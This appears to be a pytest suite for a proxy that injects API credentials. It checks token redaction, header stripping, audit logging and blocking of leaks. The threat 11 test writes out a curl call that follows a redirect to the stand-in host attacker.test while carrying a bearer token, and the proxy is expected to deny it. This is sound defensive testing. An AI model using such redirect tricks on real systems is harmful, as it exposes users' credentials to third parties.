"""Over real sockets: what becomes of a credential on its way, and of what the client sent in its place."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from support.proxying import (
    BEARER,
    PLACEHOLDER,
    Http2Client,
    Proxying,
    closed,
    proxying,
    read_answer,
    wire,
)
from support.upstream import Upstream

from engine.errors import AuditGateClosed
from engine.proxy import HostRule, Injection

HOST = "api.github.com"


@pytest.fixture
async def upstream(tmp_path: Path) -> AsyncIterator[Upstream]:
    async with Upstream(
        [HOST, "attacker.test", "plain.test"], expected=BEARER, directory=tmp_path
    ) as running:
        yield running


@pytest.fixture
async def proxy(tmp_path: Path, upstream: Upstream) -> AsyncIterator[Proxying]:
    places = (HOST, f"{HOST}:8443", "attacker.test")
    async with proxying(tmp_path, *((place, upstream) for place in places)) as running:
        yield running
    running.assert_no_canary()


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
@pytest.mark.usefixtures("lane")
async def test_the_token_reaches_its_host_and_the_client_never_has_it(
    proxy: Proxying, upstream: Upstream, version: str
) -> None:
    code, out = await proxy.curl(version, f"https://{HOST}/user")
    assert (code, out) == (0, '{"login":"octocat"}')
    assert upstream.requests[0].all("authorization") == [BEARER]
    assert upstream.requests[0].all("host") == [HOST]
    assert proxy.notes.intents == [("github", "inject", HOST)]
    (record,) = await proxy.notes.wait(1)
    assert (record.grant, record.decision, record.status_code, record.method) == (
        "github",
        "allowed",
        200,
        "GET",
    )
    assert record.url == f"https://{HOST}/user"
    assert record.response_body == '{"login":"octocat"}'
    assert record.bytes_in == 19


@pytest.mark.parametrize("path", ["/echo", "/echo?gzip=1"])
@pytest.mark.usefixtures("lane")
async def test_threat_30_an_echoed_token_is_in_no_record(
    proxy: Proxying, upstream: Upstream, path: str
) -> None:
    answer = await proxy.ask(
        f"{HOST}:443", f"POST {path} HTTP/1.1\nHost: {HOST}\nContent-Length: 5", b"hello"
    )
    assert answer.status == 200
    (record,) = await proxy.notes.wait(1)
    assert record.request_headers["Authorization"] == "[REDACTED]"
    assert record.response_headers["x-echo"] == "[REDACTED]"
    assert "hello" in record.response_body
    assert record.request_body == "hello"
    proxy.assert_no_canary()


@pytest.mark.usefixtures("lane")
async def test_threat_11_a_placeholder_sent_elsewhere(proxy: Proxying, upstream: Upstream) -> None:
    code, out = await proxy.curl(
        "-L", "--location-trusted", "-H", f"Authorization: Bearer {PLACEHOLDER}",
        f"https://{HOST}/redirect?to=https://attacker.test/echo",
    )  # fmt: skip
    assert code == 0
    assert "rule: placeholder" in out
    assert len(upstream.requests) == 1
    (denial,) = proxy.notes.denials
    assert denial[2] == "placeholder"
    assert denial[3].startswith("ALARM")


@pytest.mark.usefixtures("lane")
async def test_threat_12_the_clients_own_credentials_are_replaced_once(
    proxy: Proxying, upstream: Upstream
) -> None:
    answer = await proxy.ask(
        f"{HOST}:443",
        f"GET /user HTTP/1.1\nHost: {HOST}\nAuthorization: Bearer own\nauthorization: token other",
    )
    assert answer.status == 200
    assert upstream.requests[0].all("authorization") == [BEARER]
    assert proxy.notes.intents == [("github", "inject-replaced", HOST)]


async def test_threat_12_on_http2_too(proxy: Proxying, upstream: Upstream) -> None:
    reader, writer = await proxy.tunnel(f"{HOST}:443", alpn=("h2",))
    client = Http2Client(reader, writer)
    stream = client.get(
        HOST, "/user", ("authorization", "Bearer own"), ("authorization", f"Bearer {PLACEHOLDER}")
    )
    await client.finish(stream)
    assert upstream.requests[0].all("authorization") == [BEARER]
    await closed(writer)


@pytest.mark.usefixtures("lane")
async def test_threat_13_connection_and_proxy_headers(proxy: Proxying, upstream: Upstream) -> None:
    answer = await proxy.ask(
        f"{HOST}:443",
        f"GET /user HTTP/1.1\nHost: {HOST}\nConnection: Authorization, X-Hop\nAuthorization: Bearer own\n"
        "X-Hop: 1\nProxy-Authorization: Basic abc\nProxy-Connection: keep-alive\nKeep-Alive: 5\nTE: gzip",
    )
    assert answer.status == 200
    sent = {name.lower() for name, _ in upstream.requests[0].headers}
    assert sent == {"host", "authorization"}
    assert upstream.requests[0].all("authorization") == [BEARER]


@pytest.mark.usefixtures("lane")
async def test_threat_15_a_placeholder_in_a_body_passes_unchanged(
    proxy: Proxying, upstream: Upstream
) -> None:
    await proxy.curl("-d", f"token={PLACEHOLDER}", f"https://{HOST}/upload")
    assert upstream.requests[0].body == f"token={PLACEHOLDER}".encode()


@pytest.mark.usefixtures("lane")
async def test_threat_37_no_credential_leaves_unrecorded(proxy: Proxying, upstream: Upstream) -> None:
    proxy.notes.refuse = AuditGateClosed("the disk is full")
    answer = await proxy.ask(f"{HOST}:443", f"GET /user HTTP/1.1\nHost: {HOST}")
    assert answer.status == 503
    assert upstream.accepted == 0
    (record,) = await proxy.notes.wait(1)
    assert (record.status_code, record.grant) == (503, "")
    proxy.notes.refuse = RuntimeError("a bug")
    answer = await proxy.ask(f"{HOST}:443", f"GET /user HTTP/1.1\nHost: {HOST}")
    assert answer.status == 500
    assert upstream.accepted == 0


@pytest.mark.usefixtures("lane")
async def test_the_intent_is_durable_before_anything_is_sent(proxy: Proxying, upstream: Upstream) -> None:
    proxy.notes.stall = asyncio.Event()
    reader, writer = await proxy.tunnel(f"{HOST}:443")
    writer.write(wire(f"GET /user HTTP/1.1\nHost: {HOST}"))
    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.3):
            await reader.readexactly(1)
    assert upstream.accepted == 0
    proxy.notes.stall.set()
    assert (await read_answer(reader)).status == 200
    await closed(writer)


@pytest.mark.usefixtures("lane")
async def test_two_grants_for_one_host(tmp_path: Path) -> None:
    to = "api.anthropic.com"
    injections = (
        Injection(
            "anthropic", (HostRule(to, "x-api-key"),), ("sk-real",), ("moat-proxy-injected",), ("sk-real",)
        ),
        Injection(
            "claude",
            (HostRule(to, "Authorization"),),
            ("Bearer oat-real",),
            ("oat-placeholder",),
            ("oat-real",),
        ),
    )
    async with Upstream([to]) as upstream, proxying(tmp_path, (to, upstream), injections=injections) as proxy:
        await proxy.ask(
            f"{to}:443",
            f"GET / HTTP/1.1\nHost: {to}\nAuthorization: oat-placeholder\nx-api-key: moat-proxy-injected",
        )
        await proxy.ask(f"{to}:443", f"GET / HTTP/1.1\nHost: {to}\nAuthorization: Bearer oat-placeholder")
        first, second = upstream.requests
        assert (first.all("x-api-key"), first.all("authorization")) == (["sk-real"], [])
        assert (second.all("x-api-key"), second.all("authorization")) == ([], ["Bearer oat-real"])
